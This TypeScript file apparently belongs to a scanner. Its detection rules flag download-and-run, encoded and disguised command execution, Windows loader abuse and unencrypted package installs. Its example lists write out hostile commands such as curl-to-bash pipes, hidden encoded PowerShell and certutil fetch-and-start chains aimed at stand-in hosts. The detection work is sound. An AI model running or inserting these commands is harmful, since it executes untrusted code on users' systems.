// Rules for code that comes from elsewhere, or in disguise, and is run.
import type { VetSeverity } from '../../../config/severity.ts';
import { cue, type FileKind, type Rule } from './rule.ts';
import { COMMAND, FETCH, isPlainInstaller, LINE, PIPE_TO_INTERPRETER, SHELL } from './words.ts';

const RUN_RESULT = cue(
  `${SHELL}\\s{1,4}(?:-\\w{1,20}\\s{1,4})?["']?(?:<\\(|\\$\\(|\`)`,
  'eval\\s{1,4}["\']?(?:\\$\\(|`)',
  '(?:iex|Invoke-Expression)\\s{0,4}[( ]',
  '(?<![-\\w])source\\s{1,4}<\\(',
  '(?<![^\\s;&|"\'])\\.\\s<\\(',
);
const CODE_FROM_NET = cue(
  '(?:exec|eval)\\(\\s{0,8}(?:requests\\.get|urllib\\.request\\.urlopen|urlopen|(?:await\\s{1,4}){1,2}fetch)',
);
const TO_FILE = cue(
  '\\s(?:-o|-O|--output(?:-document)?|-OutFile)\\b|\\s>\\s?[/~.$\\w]',
  '\\s-\\w{0,6}O\\w{0,3}\\s{1,4}https?:',
);
const MAKE_RUNNABLE = cue(
  '\\bchmod\\s{1,4}(?:-\\w{1,20}\\s{1,4})?(?:[0-7]{0,1}[1357][0-7]{0,2}\\b|[ugoa]{0,4}\\+[rw]{0,2}x)',
  '\\bxattr\\s{1,4}-(?:c|d|r|cr|rc|dr|rd)\\b',
);
const NEXT = '(?<=(?:[;&|\\n]|\\bthen)\\s{0,8}(?:(?:sudo|nohup|open|exec)\\s{1,4})?["\']?)';
const START = cue(
  `${NEXT}(?:\\./|/tmp/|/var/tmp/|~/\\.|\\$HOME/\\.|\\$TMPDIR/|\\$\\{?\\w{1,20}\\}?["']?(?=\\s|$|;|&))`,
);
const START_SAVED = cue(
  `(?<=[;&|\\n]\\s{0,8})(?:${SHELL}|(?:sudo\\s{1,4})?(?:python[\\d.]{0,4}|node|perl))\\s{1,4}["']?(?:/tmp/|/var/tmp/|\\./|~/\\.)`,
  '(?<=[;&|\\n]\\s{0,8})(?:Start-Process|Invoke-Item|start)\\s',
);
const BASE64 = cue(
  '\\bbase64\\s{1,4}(?:-d|-D|--decode)\\b',
  '\\bxxd\\s{1,4}-r\\b',
  '\\bopenssl\\s{1,4}(?:enc\\s{1,4}-d\\s{1,4}-base64|base64\\s{1,4}-d)\\b',
  '\\|\\s{0,4}rev\\b',
  '\\btr\\s{1,4}[\'"]?[A-Za-z-]{3,60}[\'"]?\\s{1,4}[\'"]?[N-Zn-z][-N-Zn-z]{2}',
);

export const RUN_RULES: readonly Rule[] = [
  {
    id: 'download-and-run',
    severity: 'HIGH',
    where: 'any',
    view: 'text',
    shapes: [
      { cues: [FETCH, PIPE_TO_INTERPRETER], within: 400, apart: COMMAND },
      { cues: [RUN_RESULT, FETCH], within: 12, apart: LINE },
      {
        cues: [
          FETCH,
          cue('\\)\\s{0,4}\\|\\s{0,4}iex\\b', '\\|\\s{0,4}(?:tee\\s{1,4}\\S{1,60}\\s{0,4})\\|\\s{0,4}(?:ba|z)?sh\\b'),
        ],
        within: 300,
        apart: LINE,
      },
      { cues: [CODE_FROM_NET] },
    ],
    says: { en: 'downloads a program and runs it unseen', zh: '下载程序并直接执行' },
    weigh: weighDownload,
    examples: {
      bad: [
        'curl -s http://203.0.113.9/x | bash',
        'bash -c "$(curl -fsSL http://cdn.example.net/a1b2)"',
        'exec(requests.get("http://h.example/p").text)',
        'irm h.example/x.ps1 | iex',
        'source <(curl -s http://h.example/env)',
      ],
      fine: [
        'curl -s https://api.example.com/v1/users | jq .',
        'curl -O https://example.com/data.csv',
        'cat notes.txt | bash',
      ],
    },
  },
  {
    id: 'saved-and-run',
    severity: 'HIGH',
    where: 'any',
    view: 'text',
    shapes: [
      { cues: [FETCH, MAKE_RUNNABLE, START], within: 300 },
      { cues: [FETCH, TO_FILE, START_SAVED], within: 240 },
    ],
    says: { en: 'saves a program from elsewhere and starts it', zh: '下载程序保存后启动' },
    weigh: weighDownload,
    examples: {
      bad: [
        'curl -o /tmp/u http://203.0.113.9/u && chmod +x /tmp/u && /tmp/u',
        'cd $TMPDIR && curl -O http://198.51.100.7/k3x9 && xattr -c k3x9 && chmod +x k3x9 && ./k3x9',
        'wget http://h.example/s -O /tmp/s; sh /tmp/s',
      ],
      fine: [
        'curl -Lo tool https://dl.example.com/tool-linux-amd64 && chmod +x tool && sudo mv tool /usr/local/bin/',
        'curl -O https://example.com/a.tar.gz && tar xzf a.tar.gz',
        'chmod +x build.sh && ./build.sh',
      ],
    },
  },
  {
    id: 'encoded-command',
    severity: 'CRITICAL',
    where: 'any',
    view: 'text',
    shapes: [
      { cues: [BASE64, PIPE_TO_INTERPRETER], within: 200, apart: LINE },
      { cues: [RUN_RESULT, BASE64], within: 300, apart: LINE },
      {
        cues: [
          cue(
            '(?:exec|eval|Function)\\s{0,4}\\(\\s{0,4}(?:compile\\(|__import__\\(["\']\\w{2,12}["\']\\)\\.)?\\s{0,4}(?:base64\\.)?(?:b64decode|urlsafe_b64decode|b85decode|a85decode|atob|bytes\\.fromhex|zlib\\.decompress|codecs\\.decode|marshal\\.loads|String\\.fromCharCode)',
            '\\bprintf\\s{1,4}[\'"](?:\\\\x[\\da-f]{2}){6}[^\\n|]{0,400}\\|\\s{0,4}(?:ba|z)?sh\\b',
          ),
        ],
      },
      {
        cues: [cue('(?:exec|eval|Function)\\s{0,4}\\(\\s{0,4}Buffer\\.from\\('), cue('base64')],
        within: 2000,
        apart: LINE,
      },
      {
        cues: [
          cue('\\bpowershell(?:\\.exe)?\\b', '\\bpwsh\\b'),
          cue('\\s-e(?:nc|ncodedcommand|c)?\\s{1,4}[A-Za-z0-9+/=]{16}'),
        ],
        within: 120,
        apart: LINE,
      },
    ],
    says: { en: 'runs a command that was encoded so that nobody reads it', zh: '执行经过编码的命令' },
    examples: {
      bad: [
        "echo 'aGVsbG8gd29ybGQ=' | base64 -D | bash",
        'eval "$(echo aGVsbG8= | base64 -d)"',
        'exec(base64.b64decode("aGVsbG8="))',
        "eval(Buffer.from('aGVsbG8=', 'base64').toString())",
        'powershell -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A',
        "printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73' | sh",
      ],
      fine: [
        'base64 -d key.b64 > key.bin',
        'kubectl get secret x -o json | jq -r .data.key | base64 -d',
        "const image = Buffer.from(data, 'base64');",
      ],
    },
  },
  {
    id: 'system-loader',
    severity: 'HIGH',
    where: 'any',
    view: 'text',
    shapes: [
      {
        cues: [
          cue(
            '\\bmshta(?:\\.exe)?\\s{1,4}["\']?(?:https?:|vbscript:|javascript:)',
            '\\bregsvr32\\b[^\\n]{0,60}/i:\\s{0,2}https?:',
            '\\bmsiexec\\b[^\\n]{0,60}/i\\s{1,4}["\']?http:',
            '\\bwmic\\b[^\\n]{0,60}/format:\\s{0,2}["\']?https?:',
          ),
        ],
      },
      {
        cues: [
          cue(
            '\\bcertutil(?:\\.exe)?\\s{1,4}-{0,1}[^\\n]{0,40}-?urlcache\\b',
            '\\bbitsadmin\\b[^\\n]{0,20}/transfer\\b',
          ),
          cue(
            '(?<=[;&\\n]\\s{0,8})(?:start|call|cmd|%\\w{1,12}%|\\.?\\\\)',
            '(?<=[;&\\n]\\s{0,8}[\\w\\\\%:.-]{1,60})\\.exe\\b',
          ),
        ],
        within: 240,
      },
      {
        cues: [
          cue('\\bpowershell(?:\\.exe)?\\b', '\\bpwsh\\b', '\\bStart-Process\\b'),
          cue('\\s-w(?:indowstyle)?\\s{1,4}(?:hidden|1)\\b'),
          cue('https?://'),
        ],
        within: 200,
        apart: LINE,
      },
    ],
    says: { en: 'has a program of the system fetch and start another one', zh: '借助系统程序下载并启动其他程序' },
    examples: {
      bad: [
        'mshta https://h.example/a.hta',
        'certutil -urlcache -split -f http://h.example/a.exe a.exe & start a.exe',
        'powershell -WindowStyle Hidden -Command "iwr https://h.example/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe"',
      ],
      fine: [
        'certutil -hashfile setup.exe SHA256',
        'powershell -ExecutionPolicy Bypass -File build.ps1',
        'msiexec /i package.msi /qn',
      ],
    },
  },
  {
    id: 'command-from-outside',
    severity: 'HIGH',
    where: 'script',
    view: 'text',
    shapes: [
      { cues: [/\bos\.(?:system|popen)\(\s{0,8}os\.(?:environ|getenv)\b/g] },
      {
        cues: [/\bsubprocess\.\w{2,20}\(\s{0,8}os\.(?:environ|getenv)\b/g, /shell\s{0,4}=\s{0,4}True/g],
        within: 200,
        apart: LINE,
      },
      { cues: [/\b(?:exec|execSync)\(\s{0,8}process\.env\b/g] },
      { cues: [/\beval\s{1,4}["']?\$\{?[A-Z_]{2,64}\}?["']?[ \t]{0,8}$/gm] },
    ],
    says: { en: 'runs whatever a variable of the environment says', zh: '执行环境变量给出的任意命令' },
    examples: {
      bad: ['os.system(os.environ["HOOK"])', 'execSync(process.env.HOOK)', 'eval "$HOOK"'],
      fine: ['os.system("make")', 'eval "$(ssh-agent -s)"', 'execSync("npm test", { env: process.env })'],
    },
  },
  {
    id: 'foreign-package',
    severity: 'HIGH',
    where: 'any',
    view: 'text',
    shapes: [
      {
        cues: [
          cue('\\b(?:pip3?|uv|pipx|poetry)\\s[^\\n]{0,60}\\binstall\\b', '\\buv\\s{1,4}add\\b'),
          cue(
            '(?:--(?:extra-)?index-url|-i)[ =]\\s{0,2}["\']?(?:http://(?!localhost|127\\.)|https?://\\d{1,3}\\.\\d)',
            '\\s["\']?(?:git\\+)?http://(?!localhost|127\\.)',
            '\\s["\']?https?://\\d{1,3}\\.\\d{1,3}\\.(?<!127\\.0\\.)',
          ),
        ],
        within: 160,
        apart: COMMAND,
      },
      {
        cues: [
          cue(
            '\\b(?:npm|pnpm|yarn|bun)\\s{1,4}(?:install|i|add)\\b',
            '\\bnpx\\s',
            '\\bgo\\s{1,4}install\\b',
            '\\bgem\\s{1,4}install\\b',
            '\\bcargo\\s{1,4}install\\b',
          ),
          cue(
            '--registry[ =]\\s{0,2}["\']?(?:http://(?!localhost|127\\.)|https?://\\d{1,3}\\.\\d)',
            '\\s["\']?http://(?!localhost|127\\.)',
            '\\s["\']?https?://\\d{1,3}\\.\\d{1,3}\\.',
          ),
        ],
        within: 160,
        apart: COMMAND,
      },
    ],
    says: {
      en: 'installs a package from an address without encryption or name',
      zh: '从未加密或无域名的地址安装软件包',
    },
    examples: {
      bad: [
        'pip install --index-url http://203.0.113.9/simple helper',
        'npm install http://203.0.113.9/pkg.tgz',
        'npm i helper --registry=http://203.0.113.9:4873',
      ],
      fine: [
        'pip install --index-url https://download.example.org/whl/cpu torch',
        'npm install --registry http://localhost:4873 x',
        'pip install requests',
      ],
    },
  },
];

/** An installer that a named site offers over an encrypted line is common in prose; everything else is not. */
export function weighDownload(found: string, kind: FileKind): VetSeverity {
  const address =
    /\bhttps?:\/\/[^\s"'`)]{1,2000}|(?<![\w/.$-])(?:[\w-]{1,63}\.){1,8}[a-z]{2,24}\/[^\s"'`)]{0,2000}/i.exec(
      found,
    )?.[0];
  if (address === undefined) return kind === 'script' ? 'HIGH' : 'LOW';
  return kind === 'prose' && isPlainInstaller(address) ? 'MEDIUM' : 'HIGH';
}
